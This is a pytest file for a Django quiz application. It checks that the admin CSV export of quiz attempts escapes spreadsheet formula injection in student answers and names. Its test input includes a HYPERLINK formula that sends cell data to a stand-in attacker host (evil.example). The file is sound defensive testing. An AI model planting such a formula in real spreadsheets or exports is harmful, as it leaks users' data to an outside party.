"""The quiz attempts export never hands a spreadsheet a formula from a student's answer."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from quizzes import services
from quizzes.models import Attempt, Quiz
from tests.quizzes.conftest import questions


@pytest.mark.django_db
def test_text_answers_and_names_starting_a_formula_are_quoted(
    quiz: Quiz, student: Any, make_member: Callable
) -> None:
    student.first_name, student.last_name = "+Eve", "Test"
    student.save()
    now = timezone.now()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    q = questions(quiz)["text"]
    services.answer_save(quiz=quiz, student=student, question_id=q.pk, value=formula, now=now)
    services.attempt_submit(attempt=Attempt.objects.get(), now=now)
    admin = make_member(quiz.course, "instructor")
    admin.is_staff = admin.is_superuser = True
    admin.save()
    c = Client()
    c.force_login(admin)
    export = c.get(f"/admin/quizzes/quiz/{quiz.pk}/export.csv")
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    row = next(r for r in rows if r[0] == student.username)
    assert row[1] == "'+Eve Test"
    assert "'" + formula in row
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
